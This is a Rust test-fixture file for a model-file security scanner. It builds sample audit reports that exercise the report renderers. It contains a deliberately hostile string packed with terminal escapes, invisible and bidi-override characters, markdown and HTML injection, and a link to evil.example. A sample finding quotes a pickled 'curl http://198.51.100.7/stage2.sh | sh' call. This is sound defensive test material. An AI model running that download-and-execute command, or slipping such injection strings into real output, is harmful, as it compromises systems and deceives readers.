//! Reports for the tests of the renderers.

use modelaudit::finding::{Finding, Severity, State, Suppression, fingerprint};
use modelaudit::report::{Asset, Change, Coverage, Diff, Report, RuleInfo, Status, Tool, Verdict};
use serde_json::{Map, Value, json};

/// Everything that must not reach a reader as it is: terminal control, reordering, invisible and line-breaking
/// characters.
pub(crate) const HIDDEN: [char; 9] =
    ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{2066}', '\u{200b}', '\u{2028}', '\u{feff}', '\u{e0041}'];

/// A name that tries everything at once.
pub(crate) const HOSTILE: &str = "m`|</details>\n\r\u{1b}[2J\u{202e}@everyone ![x](http://evil.example/x) <img src=x> #1 \
                           -->```\u{200b}\u{2028}\u{9b}\u{e0041}\u{feff}\u{2066}\u{7}.pt";

/// Findings of three files, a change under review, and every kind of coverage.
pub(crate) fn rich() -> Report {
    let mut report = empty();
    report.verdict = Verdict::Fail;
    report.start_time = 1_750_168_822.5;
    report.duration = 0.0123;
    report.files_scanned = 18;
    report.bytes_scanned = 1_234_567_890;
    report.files_ignored = 3;
    report.has_errors = true;
    report.scanner_names = vec!["pickle".into(), "safetensors".into(), "zip".into()];
    report.issues = findings();
    report.diff = Some(diff());
    report.assets =
        vec![asset("models/evil.pt", "pytorch-zip", 4096), asset("weights.safetensors", "safetensors", 1234)];
    report.coverage = coverage();
    report.errors = vec!["the target 'missing.pt' does not exist".into()];
    report.notes = vec!["2 files are Git LFS pointers whose objects are not in the local cache".into()];
    report.rules = vec![
        rule("S101", "os-module-import", "The os module is used", Severity::Critical),
        rule("S201", "pickle-reduce", "A callable is run while the file loads", Severity::Critical),
        rule("S902", "trailing-data", "Data behind the end of the model", Severity::Medium),
    ];
    report
}

/// A run that looked at nothing.
pub(crate) fn empty() -> Report {
    Report {
        schema_version: 1,
        tool: Tool {
            name: "modelaudit".into(),
            version: "0.1.0".into(),
            rules_digest: "sha256:00112233445566778899aabbccddeeff".into(),
            names_digest: "sha256:ffeeddccbbaa99887766554433221100".into(),
        },
        verdict: Verdict::Pass,
        fail_on: Some(Severity::Medium),
        start_time: 0.0,
        duration: 0.0,
        files_scanned: 0,
        bytes_scanned: 0,
        files_ignored: 0,
        has_errors: false,
        scanner_names: vec![],
        checkout: None,
        diff: None,
        issues: vec![],
        assets: vec![],
        coverage: vec![],
        suppressions: vec![],
        errors: vec![],
        notes: vec![],
        rules: vec![],
    }
}

/// A report whose every text is hostile.
pub(crate) fn hostile() -> Report {
    let mut report = rich();
    let text = || HOSTILE.to_owned();
    let spoil = |finding: &mut Finding| {
        (finding.message, finding.location, finding.path) = (text(), text(), text());
        (finding.why, finding.fix) = (text(), text());
        finding.members = vec![text(), text()];
        finding.details = Map::from_iter([("call".into(), json!(HOSTILE)), (text(), json!([HOSTILE]))]);
        if let Some(suppression) = &mut finding.suppression {
            suppression.source = text();
            (suppression.reason, suppression.owner, suppression.expires) = (Some(text()), Some(text()), Some(text()));
        }
    };
    report.issues.iter_mut().for_each(spoil);
    if let Some(diff) = &mut report.diff {
        diff.fixed.iter_mut().for_each(spoil);
        (diff.base, diff.merge_base, diff.head) = (Some(text()), Some(text()), Some(text()));
        diff.full_scan_reason = Some(text());
        for change in &mut diff.changed {
            (change.path, change.change, change.from) = (text(), text(), Some(text()));
        }
    }
    for asset in &mut report.assets {
        (asset.path, asset.format) = (text(), text());
        asset.tensors = vec![text()];
        asset.metadata = Map::from_iter([(text(), json!(HOSTILE))]);
    }
    for file in &mut report.coverage {
        file.path = text();
        file.reason = file.reason.as_ref().map(|_| text());
    }
    for rule in &mut report.rules {
        (rule.title, rule.why, rule.fix) = (text(), text(), text());
    }
    (report.errors, report.notes) = (vec![text()], vec![text()]);
    report.tool.version = text();
    report
}

/// The rich report with `count` findings.
pub(crate) fn many(count: usize) -> Report {
    let mut report = rich();
    report.issues = (0..count)
        .map(|n| {
            let level = [Severity::Critical, Severity::High, Severity::Medium, Severity::Low][n % 4];
            let path = format!("models/shard-{:05}.bin", n / 3);
            finding("S101", "os-module-import", level, &path, &["data.pkl"], &format!("call {n} of os.system"))
        })
        .collect();
    report
}

/// True if nothing in `text` could act on a terminal or hide.
pub(crate) fn is_visible(text: &str) -> bool {
    !text.contains(HIDDEN) && text.chars().all(|c| c == '\n' || !modelaudit::escape::is_hidden(c))
}

/// A finding with the parts that tests care about.
pub(crate) fn finding(code: &str, name: &str, level: Severity, path: &str, members: &[&str], message: &str) -> Finding {
    let members: Vec<String> = members.iter().map(ToString::to_string).collect();
    Finding {
        rule_code: code.into(),
        rule_name: name.into(),
        severity: level,
        severity_score: level.score(),
        safety_level: level.safety_level(),
        message: message.into(),
        location: format!("{path} (pos 28)"),
        path: path.into(),
        fingerprint: fingerprint(code, path, &members, message),
        members,
        offset: Some(28),
        length: Some(14),
        why: "The `os` module starts processes. Whoever loads the file runs them with their own rights, e.g. on a \
              build machine."
            .into(),
        fix: "Do not load this file. Ask its author for `safetensors`, or load it with `weights_only=True`.".into(),
        cwe: vec![78, 502],
        cve: vec![],
        details: Map::new(),
        related_rules: vec![],
        occurrences: 1,
        state: State::New,
        suppression: None,
    }
}

fn findings() -> Vec<Finding> {
    let call = "posix.system('curl http://198.51.100.7/stage2.sh | sh')";
    let message = format!("posix.system is called while the file loads: {call}");
    let mut called =
        finding("S101", "os-module-import", Severity::Critical, "models/evil.pt", &["archive/data.pkl"], &message);
    called.details = evidence(json!({
        "module": "posix", "function": "system", "opcode": "STACK_GLOBAL", "invoked": true, "call": call, "stream": 0,
    }));
    called.related_rules = vec!["S201".into(), "S309".into()];
    called.occurrences = 3;
    let mut again = called.clone();
    again.message = "posix.popen is named".into();
    again.details = Map::new();
    (again.occurrences, again.length, again.severity) = (1, None, Severity::High);
    (again.severity_score, again.safety_level) = (Severity::High.score(), Severity::High.safety_level());
    let mut accepted =
        finding("S201", "pickle-reduce", Severity::Critical, "models/old.pkl", &[], "builtins.eval is called");
    accepted.suppression = Some(Suppression {
        source: "config".into(),
        reason: Some("made by our own pipeline".into()),
        owner: Some("ml-platform".into()),
        expires: Some("2027-01-31".into()),
    });
    let mut trailing = finding(
        "S902",
        "trailing-data",
        Severity::Medium,
        "weights.safetensors",
        &[],
        "64 bytes follow the last tensor",
    );
    trailing.state = State::Unchanged;
    trailing.cve = vec!["CVE-2024-12345".into()];
    let mut whole =
        finding("S1101", "unusual-name", Severity::Info, "weights.safetensors", &[], "the name has two extensions");
    (whole.offset, whole.length) = (None, None);
    vec![called, again, accepted, trailing, whole]
}

fn diff() -> Diff {
    let change = |path: &str, change: &str, from: Option<&str>| Change {
        path: path.into(),
        change: change.into(),
        from: from.map(Into::into),
    };
    Diff {
        mode: "diff".into(),
        base: Some("origin/main".into()),
        merge_base: Some("1a2b3c4d5e6f1a2b3c4d5e6f1a2b3c4d5e6f1a2b".into()),
        head: Some("9f8e7d6c5b4a9f8e7d6c5b4a9f8e7d6c5b4a9f8e".into()),
        full_scan_reason: Some("the configuration changed".into()),
        changed: vec![
            change("models/evil.pt", "added", None),
            change("weights.safetensors", "renamed", Some("old/weights.safetensors")),
        ],
        fixed: vec![Finding {
            state: State::Fixed,
            ..finding("S101", "os-module-import", Severity::Critical, "models/gone.pkl", &[], "os.system is called")
        }],
    }
}

fn coverage() -> Vec<Coverage> {
    let file = |path: &str, status: Status, reason: Option<&str>| Coverage {
        path: path.into(),
        status,
        reason: reason.map(Into::into),
        bytes: 74,
    };
    let mut files = vec![
        file("models/evil.pt", Status::Complete, None),
        file(
            "models/broken.safetensors",
            Status::Partial,
            Some("malformed at 0x2c: a tensor ends behind the end of the file, which the header does not allow"),
        ),
        file("models/gone.bin", Status::Failed, Some("permission denied")),
    ];
    let unread = Some("no decoder for this format in this build");
    files.extend((0..12).map(|n| file(&format!("nets/{n}.onnx"), Status::Skipped, unread)));
    files.extend((0..2).map(|n| file(&format!("nets/{n}.gguf"), Status::Skipped, unread)));
    files.push(file("lfs/model.bin", Status::Skipped, Some("Git LFS pointer without its object")));
    files
}

fn asset(path: &str, format: &str, size: u64) -> Asset {
    Asset {
        path: path.into(),
        format: format.into(),
        size,
        sha256: Some("ab".repeat(32)),
        tensors: vec!["embedding.weight".into()],
        tensor_count: 1,
        metadata: evidence(json!({ "format": "pt" })),
        contains: vec!["pickle".into()],
        weights_only: None,
    }
}

fn rule(code: &str, name: &str, title: &str, severity: Severity) -> RuleInfo {
    RuleInfo {
        code: code.into(),
        name: name.into(),
        title: title.into(),
        severity,
        why: "Why it matters.".into(),
        fix: "What to do.".into(),
        cwe: vec![502],
        atlas: vec!["AML.T0011.000".into()],
        refs: vec!["https://docs.python.org/3/library/pickle.html".into()],
        precision: "high".into(),
        prisma: vec!["LTE".into()],
    }
}

#[expect(clippy::needless_pass_by_value, reason = "reads better at its calls")]
fn evidence(value: Value) -> Map<String, Value> {
    value.as_object().cloned().unwrap_or_default()
}
